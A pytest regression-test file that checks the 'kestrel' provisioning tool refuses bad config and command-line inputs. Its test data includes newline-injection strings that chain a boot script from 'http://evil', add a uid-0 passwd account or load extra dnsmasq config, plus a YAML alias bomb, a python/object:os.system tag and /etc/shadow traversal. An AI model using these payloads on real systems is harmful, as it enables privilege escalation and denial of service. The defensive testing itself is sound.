"""Regression tests for the bad inputs of issue 15, one a defect, each named after it: the program exits 2 with
one line naming the file or argument, and nothing under the root changes."""

from __future__ import annotations

import os
import resource
import subprocess
import time
from pathlib import Path

import pytest

from kestrel.config import load_config
from kestrel.errors import InputError
from kestrel.images import store
from kestrel.sysroot import Sysroot
from tests.conftest import write_config
from tests.treestate import kestrel, tree_state

CONFIG = "/etc/kestrel/kestrel.yaml"
MAC = "52:54:00:bb:00:09"
# 414 bytes that expand to 9**9 strings (a "billion laughs"): it once hung every reader of the config.
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8)
)


def snapshot(root: Path) -> dict[str, object]:
    """Every file and link under ROOT with its content, mode and owner. The writers' lock (an empty file, taken
    before some checks, with the folders that hold it) is no change."""
    return {
        path: entry[:3] + entry[4:]
        for path, entry in tree_state(root).items()
        if entry[4] is not None and path != "var/lib/kestrel/lock"
    }


def cpu_of_children() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def refused(tree: Sysroot, program: str, *args: str, names: str) -> str:
    """Run PROGRAM; it must exit 2 with one line naming NAMES, no traceback, and change nothing under the root."""
    before = snapshot(tree.root)
    used = cpu_of_children()
    proc = kestrel(program, tree.root, *args, timeout=60)
    assert cpu_of_children() - used < 5  # CPU seconds: the machine's load stretches wall time
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and names in lines[0] and "Traceback" not in proc.stderr, proc.stderr
    assert snapshot(tree.root) == before
    return lines[0]


def config_with(tree: Sysroot, text: str) -> None:
    """A config of TEXT only (every other key at its default)."""
    write_config(tree, text)


def test_leases_file_newline_injects_conf_file(tree: Sysroot) -> None:
    config_with(tree, 'network:\n  leases_file: "/var/lib/kestrel/dnsmasq.leases\\nconf-file=/tmp/x"\n')
    line = refused(tree, "reconfigure", "--frontend", names="network.leases_file")
    assert "absolute path of plain characters" in line


def test_boot_cmdline_newline_chains_evil_ipxe(tree: Sysroot) -> None:
    config_with(tree, 'boot:\n  cmdline: "quiet\\nchain http://evil/own.ipxe"\n')
    refused(tree, "reconfigure", "--frontend", names="boot.cmdline")


def test_nfs_home_newline_writes_uid0_account(tree: Sysroot) -> None:
    config_with(tree, 'nfs:\n  home: "/home\\nevil::0:0:x:/root:/bin/sh\\n/x"\n')
    refused(tree, "users", "add", "alice", names="nfs.home")


@pytest.mark.parametrize("bad", ['"a:b"', '"/srv/a b"', '"/srv/../etc"', '"/srv//x"', '"/srv/x#y"'])
def test_paths_with_separators_of_target_formats(tree: Sysroot, bad: str) -> None:
    config_with(tree, f"nfs:\n  home: {bad}\n")
    refused(tree, "reconfigure", "--frontend", names="nfs.home")


@pytest.mark.parametrize(
    ("field", "value"),
    [("version", "1\nconf-file=/x"), ("kernel", "a/../../etc/shadow"), ("root", "/srv/x\n/y"), ("cmdline", "a\nb")],
)
def test_manifest_version_and_kernel_reach_ganesha_and_boot_scripts(tree: Sysroot, field: str, value: str) -> None:
    path = tree.path(store.manifest_path("default"))
    path.parent.mkdir(parents=True)
    manifest = {"name": "default", "version": "v1", "root": "/srv/kestrel/images/default.versions/v1"}
    manifest |= {"kernel": "images/default/v1/vmlinuz", "initrd": "images/default/v1/initrd.img", "cmdline": ""}
    path.write_text(__import__("json").dumps(manifest | {field: value}))
    line = refused(tree, "reconfigure", "--frontend", names=str(path))
    assert "not a valid image manifest" in line


@pytest.mark.parametrize("name", ["ignore", "infinite", "12h", "3600", "0", "45m", "localhost", "frontend"])
def test_node_names_dnsmasq_reads_as_keywords(tree: Sysroot, name: str) -> None:
    line = refused(tree, "nodes", "add", "--mac", MAC, "--name", name, names=repr(name))
    assert "node name" in line or "frontend's name" in line


@pytest.mark.parametrize("group", ["ignore", "12h", "0", "set:x"])
def test_group_names_dnsmasq_reads_as_keywords(tree: Sysroot, group: str) -> None:
    refused(tree, "nodes", "add", "--mac", MAC, "--group", group, names="group name")


def test_registry_line_with_keyword_name_is_located(tree: Sysroot) -> None:
    registry = tree.path("/etc/kestrel/nodes")
    registry.write_text("52:54:00:aa:00:01,set:img-default,set:grp-compute,10.10.0.11,ignore\n")
    refused(tree, "nodes", "list", names=f"{registry}:1")


def test_yaml_alias_bomb_hangs_every_reader(tree: Sysroot) -> None:
    assert len(BOMB) < 420
    write_config(tree, BOMB)
    line = refused(tree, "reconfigure", "--frontend", "--dry-run", names=f"{tree.path(CONFIG)}:")
    assert "aliases expand to more than" in line


def test_yaml_alias_bomb_hangs_the_lease_hook(tree: Sysroot) -> None:
    """The real hook dnsmasq runs (rendered by reconfigure) and the registrar that applies what it queues, each
    as a process of its own: the hook reads no config and queues the event at once; the registrar refuses the
    config in one line and leaves the event queued."""
    proc = kestrel("reconfigure", tree.root, "--frontend")
    assert proc.returncode == 0, proc.stderr
    hook = tree.path("/usr/local/lib/kestrel/lease-hook")
    write_config(tree, BOMB)
    env = {k: v for k, v in os.environ.items() if not k.startswith("KESTREL_")}
    used = cpu_of_children()
    done = subprocess.run([str(hook), "add", MAC, "10.10.0.150"], capture_output=True, text=True, timeout=60, env=env)
    assert done.returncode == 0 and cpu_of_children() - used < 1, done.stderr
    queued = snapshot(tree.root)
    assert any(path.startswith("var/lib/kestrel/lease-events/") for path in queued)
    line = refused(tree, "nodes", "registrar", "--once", names=f"{tree.path(CONFIG)}:")
    assert "aliases expand to more than" in line


def test_yaml_alias_bomb_is_refused_in_under_a_second_of_cpu(tmp_path: Path) -> None:
    path = tmp_path / "kestrel.yaml"
    path.write_text(BOMB)
    started = time.process_time()
    with pytest.raises(InputError, match="aliases expand to more than"):
        load_config(path)
    assert time.process_time() - started < 1


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("cluster:\n  name: lab\x00\n", "control character"),
        ("a: " + "[" * 2000 + "]" * 2000 + "\n", "nested deeper than"),
        ("base: &b {name: lab}\ncluster:\n  <<: *b\n", "merge keys"),
        ("cluster: !!python/object:os.system {}\n", "tag"),
    ],
    ids=["nul byte", "deep nesting", "merge key", "python tag"],
)
def test_yaml_nul_deep_nesting_and_merge_key_crash(tree: Sysroot, text: str, why: str) -> None:
    write_config(tree, text)
    assert why in refused(tree, "reconfigure", "--frontend", "--dry-run", names=f"{tree.path(CONFIG)}:")


def test_name_pattern_width_takes_8_gb(tree: Sysroot) -> None:
    config_with(tree, 'nodes:\n  name_pattern: "node{index:09999999999d}"\n')
    refused(tree, "nodes", "add", "--mac", MAC, names="nodes.name_pattern")


def test_leases_dev_zero_fills_memory(tree: Sysroot) -> None:
    refused(tree, "nodes", "--register", "--no-verify", "--leases", "/dev/zero", names="/dev/zero: not a regular file")


def test_leases_fifo_blocks_forever(tree: Sysroot, tmp_path: Path) -> None:
    fifo = tmp_path / "leases.fifo"
    os.mkfifo(fifo)
    refused(tree, "nodes", "--register", "--no-verify", "--leases", str(fifo), names=f"{fifo}: not a regular file")


def test_config_over_the_size_limit(tree: Sysroot) -> None:
    write_config(tree, "# " + "x" * (2 << 20) + "\n")
    refused(tree, "reconfigure", "--frontend", names="larger than")


def test_read_manifest_is_bounded_too(tree: Sysroot) -> None:
    path = tree.path(store.manifest_path("default"))
    path.parent.mkdir(parents=True)
    os.mkfifo(path)
    with pytest.raises(InputError, match="not a regular file"):
        store.read_manifest(path)
